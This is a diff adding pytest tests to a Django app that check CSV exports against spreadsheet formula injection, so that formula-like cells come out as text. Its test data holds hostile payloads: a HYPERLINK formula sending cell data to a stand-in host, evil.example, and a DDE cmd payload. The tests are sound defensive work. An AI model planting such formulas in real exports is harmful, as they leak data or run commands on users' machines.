@@ -1,0 +1,74 @@
+"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP's CSV injection rule)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from django_tables2.export.views import ExportMixin
+
+from tests.factories import InitiativeFactory
+from tollgate.ui.exports import SafeTableExport, neutralise
+
+PLANTED = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+
+
+@pytest.mark.parametrize(("cell", "shown"), [
+    (PLANTED, "'" + PLANTED),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-1,200.50", "-1,200.50"),  # a negative amount stays a number
+    ("-12.5%", "-12.5%"),
+    ("+3", "+3"),
+    ("Claims triage", "Claims triage"),
+    ("", ""),
+    (-3, -3),
+    (None, None),
+])
+def test_neutralise(cell, shown):
+    assert neutralise(cell) == shown
+
+
+def _views(patterns, prefix=""):
+    for pattern in patterns:
+        if isinstance(pattern, URLResolver):
+            yield from _views(pattern.url_patterns, prefix + str(pattern.pattern))
+        elif isinstance(pattern, URLPattern):
+            view = getattr(pattern.callback, "view_class", None)
+            if view is not None:
+                yield prefix + str(pattern.pattern), view
+
+
+def test_every_list_export_goes_through_the_safe_exporter():
+    exporting = [(route, view) for route, view in _views(get_resolver().url_patterns) if issubclass(view, ExportMixin)]
+    assert len(exporting) >= 10
+    unsafe = [route for route, view in exporting if not issubclass(view.export_class, SafeTableExport)]
+    assert unsafe == []
+
+
+def rows_of(response) -> list[list[str]]:
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+@pytest.mark.django_db
+def test_a_planted_formula_comes_out_as_text(client, executive):
+    InitiativeFactory(name=PLANTED, description="@cmd")
+    client.force_login(executive)
+    rows = rows_of(client.get(reverse("portfolio:initiative_list") + "?_export=csv"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + PLANTED in cells
+    assert PLANTED not in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+@pytest.mark.django_db
+def test_only_csv_is_exported(client, executive):
+    client.force_login(executive)
+    response = client.get(reverse("portfolio:initiative_list") + "?_export=xlsx")
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
